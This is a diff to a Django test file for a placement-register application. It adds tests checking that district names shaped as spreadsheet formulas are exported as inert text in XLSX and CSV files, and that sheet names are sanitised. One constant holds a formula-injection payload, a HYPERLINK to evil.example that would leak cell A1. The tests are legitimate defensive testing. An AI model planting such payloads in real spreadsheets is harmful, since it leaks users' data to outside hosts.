@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import subprocess
 import sys
+import zipfile
 from base64 import b32decode
 from pathlib import Path
 from typing import Any
@@ -18,13 +21,15 @@ from django.test import Client, override_settings
 from django.urls import reverse
 from django_otp.oath import totp
 from django_otp.plugins.otp_totp.models import TOTPDevice
+from openpyxl import load_workbook
 
 from conftest import World
 from obruten.accounts.tests.test_deploy_settings import documented_environment
 from obruten.api import keys
 from obruten.lib.tests.hostile import shared_string_bomb
 from obruten.register.imports import COLUMNS
-from obruten.register.models import Placement
+from obruten.register.models import District, Placement
+from obruten.spreadsheets import sheet_name
 from obruten.sso import services
 from obruten.sso.mfa import OIDC_BACKEND, PROVIDER_MFA_SESSION_KEY
 from obruten.sso.tests.test_identity import ISSUER, _token, backend
@@ -225,3 +230,56 @@ def test_5_the_api_withholds_a_protected_childs_school_start_as_the_page_does(
         else:
             assert shown == {}  # recorded, and nothing more
             assert day not in text and f"<dd>{day}</dd>" not in page.content.decode()
+
+
+# 6: formula injection and a crash through a district name edited in the admin.
+
+EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Öppna") / Farsta?'
+
+
+def _formulas_and_names(content: bytes) -> tuple[list[str], list[str]]:
+    """The formula elements of every sheet, and the sheet names, as Excel reads the file."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        formulas = [
+            name
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
+        ]
+    return formulas, load_workbook(io.BytesIO(content), read_only=True).sheetnames
+
+
+def test_6_a_district_named_as_a_formula_is_text_in_every_spreadsheet_and_sheet_names_are_safe(
+    world: World,
+) -> None:
+    District.objects.filter(code="farsta").update(name=EVIL)
+    analyst, worker = _client(world, "analyst"), _client(world, "case_worker")
+    year = f"{world.own_placement.start_date:%Y}"
+    url = reverse("statistics:download", kwargs={"name": "placements", "fmt": "xlsx"})
+    files = {
+        "report": analyst.get(url, {"year": year}),
+        "monthly file": analyst.get(reverse("statistics:monthly_export"), {"month": f"{year}-01"}),
+        "import template": worker.get(reverse("register:import_template")),
+        "pack": analyst.get(
+            reverse("statistics:pack", kwargs={"fmt": "xlsx"}), {"year": year, "through": "T3"}
+        ),
+    }
+    for name, response in files.items():
+        assert response.status_code == 200, name
+        formulas, sheets = _formulas_and_names(response.content)
+        assert formulas == [], name
+        assert all("/" not in sheet and "?" not in sheet for sheet in sheets), name
+    book = load_workbook(io.BytesIO(files["report"].content))
+    texts = [cell.value for row in book.active.iter_rows() for cell in row if cell.value]
+    assert EVIL in texts  # shown as typed, as text
+    url = reverse("statistics:download", kwargs={"name": "placements", "fmt": "csv"})
+    text = analyst.get(url, {"year": year}).content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+    assert "'" + EVIL in cells and EVIL not in cells  # text to Excel, not a formula
+
+
+def test_6_sheet_names_excel_accepts() -> None:
+    assert sheet_name("Farsta/Söder?") == "Farsta-Söder-"
+    assert sheet_name("'" + "x" * 40) == "x" * 31
+    assert sheet_name("Bromma", taken=["bromma"]) == "Bromma (2)"
+    assert sheet_name("History") == "History (2)"
+    assert sheet_name("[]") == "--" and sheet_name("  ") == "Blad"
